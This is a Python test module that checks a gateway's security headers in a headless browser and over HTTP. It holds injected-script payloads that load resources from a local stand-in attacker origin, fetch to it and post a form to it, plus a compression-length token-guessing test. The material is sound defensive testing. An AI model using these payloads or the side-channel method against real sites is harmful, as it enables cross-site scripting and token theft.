"""The purpose of the gateway's headers and compression: the attacks, in a browser and over HTTP."""

from __future__ import annotations

import json
import secrets
from collections.abc import AsyncIterator
from pathlib import Path

import aiohttp
import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Page, async_playwright

from devstack.embedded.ports import free_port
from devstack.testing.components import program
from devstack.testing.wait import eventually
from tests.ops.gateways import ECHO, StandIn, gateway_before

pytestmark = pytest.mark.asyncio(loop_scope="module")

LOGIN = "/api/users/v1/auth/login"
PAGES = (
    "/forgot-password",
    "/reset-password",
    "/undo-address",
    "/verify-email",
    "/sign-in/one",
    "/docs/",
    "/healthz",
    ECHO,
)
SECRET = "csrf_token=" + secrets.token_hex(16)
# What somebody who could write into a page would put there.
PUT_THERE = """evil => {
    const put = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
    window.refused = [];
    document.addEventListener("securitypolicyviolation",
                              event => refused.push(event.effectiveDirective));
    put("script", {textContent: "window.owned = 1"});
    put("script", {src: evil + "/script.js"});
    put("img", {src: evil + "/picture"});
    put("iframe", {src: evil + "/frame"});
    put("div", {innerHTML: "<b onclick='window.owned = 1'>x</b>"});
    document.querySelector("b:last-of-type").click();
    return fetch(evil + "/fetch", {mode: "no-cors"}).catch(() => 0);
}"""
# And what would take the reader elsewhere.
SEND = """evil => {
    const made = document.createElement("form");
    document.body.append(Object.assign(made, {action: evil + "/form", method: "post"}));
    made.submit();
}"""


class Script(StandIn):
    """Respond to every request with a page that contains a script."""

    async def answer(self, request: web.Request) -> web.Response:
        self.asked.append((request.method, request.path, dict(request.headers), b""))
        framed = "".join(
            f"<iframe name={name} src={url}></iframe>" for name, url in request.query.items()
        )
        text = f"<title>quiet</title><script>document.title = 'owned'</script>{framed}"
        return web.Response(text=text, content_type="text/html")


class Echo(StandIn):
    """Respond with a secret and the request's text, in 4 KiB."""

    async def answer(self, request: web.Request) -> web.Response:
        said = {"asked": request.query.get("q", ""), "said": SECRET, "more": "x" * 4000}
        return web.json_response(text=json.dumps(said))


@pytest_asyncio.fixture(loop_scope="module")
async def evil() -> AsyncIterator[StandIn]:
    """A page of an attacker on its own port, and so on another origin."""
    server = Script(free_port())
    async with server.serving():
        yield server


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def page() -> AsyncIterator[Page]:
    path = program("chromium", "chromium-browser", "google-chrome")
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=path, args=flags)
        yield await browser.new_page()
        await browser.close()


@pytest.mark.browser
async def test_what_a_browser_takes_for_a_page_runs_nothing(
    evil: StandIn, page: Page, run_dir: Path
) -> None:
    """Directly from the service the script runs: that is the attack."""
    await page.goto(f"http://127.0.0.1:{evil.port}{ECHO}")
    assert await page.title() == "owned"
    async with gateway_before(run_dir, [evil.port]) as nginx:
        await page.goto(nginx.settings.gateway_url + ECHO)
        assert await page.title() == "quiet"


@pytest.mark.browser
async def test_no_page_of_ours_is_in_a_frame_of_others(
    evil: StandIn, page: Page, run_dir: Path
) -> None:
    """Users cannot be made to press our buttons under another image."""
    async with gateway_before(run_dir, [evil.port]) as nginx:
        ours = {f"f{at}": nginx.settings.gateway_url + path for at, path in enumerate(PAGES)}
        theirs = {"theirs": f"http://127.0.0.1:{evil.port}/itself"}
        query = "&".join(f"{name}={url}" for name, url in (ours | theirs).items())
        await page.goto(f"http://127.0.0.1:{evil.port}/?{query}")
        shown = {frame.name for frame in page.frames if frame.url.startswith("http://127.0.0.1")}
        # The page itself, and the one that may be framed: the attack.
        assert shown == {"", "theirs"}


@pytest.mark.browser
@pytest.mark.parametrize(
    "path",
    ["/forgot-password", "/reset-password", "/undo-address", "/verify-email", "/sign-in/one"],
)
async def test_what_is_put_into_a_page_of_ours_neither_runs_nor_tells(
    evil: StandIn, page: Page, run_dir: Path, path: str
) -> None:
    there = f"http://127.0.0.1:{evil.port}"
    # On a page of others all of it works.
    await page.goto(f"{there}/")
    evil.asked.clear()
    await page.evaluate(PUT_THERE, there)
    wanted = {"/script.js", "/picture", "/frame", "/fetch"}
    await eventually(lambda: wanted <= {asked for _, asked, *_ in evil.asked})
    assert await page.evaluate("window.owned") == 1
    async with gateway_before(run_dir, [evil.port]) as nginx:
        await page.goto(f"{nginx.settings.gateway_url}{path}#token=x")
        evil.asked.clear()
        await page.evaluate(PUT_THERE, there)
        await page.evaluate(SEND, there)
        refused: set[str] = set()

        async def are_refused() -> bool:
            refused.update(await page.evaluate("refused"))
            return {"script-src-elem", "frame-src", "connect-src", "form-action"} <= refused

        await eventually(are_refused)
        assert await page.evaluate("window.owned") is None
        assert page.url.startswith(nginx.settings.gateway_url)
        assert evil.asked == []


async def _length(http: aiohttp.ClientSession, path: str, guess: str) -> int:
    async with http.request("GET", path, params={"q": guess}) as answer:
        assert answer.status == 200
        return int(answer.headers.get("Content-Length") or len(await answer.read()))


async def test_no_secret_is_told_by_the_length_of_what_is_packed(run_dir: Path) -> None:
    """A correct guess compresses better, because the response has its text twice."""
    right, wrong = SECRET, "csrf_token=" + "zyxw" * 8
    server = Echo(free_port())
    async with (
        server.serving(),
        gateway_before(run_dir, [server.port]) as nginx,
        aiohttp.ClientSession(nginx.settings.gateway_url, auto_decompress=False) as http,
    ):
        # Where there are no tokens in what is answered: the attack.
        assert await _length(http, ECHO, right) < await _length(http, ECHO, wrong)
        for path in (LOGIN, "/api/users/v1/auth/refresh", "/api/users/v1/%61uth/login"):
            assert await _length(http, path, right) == await _length(http, path, wrong), path
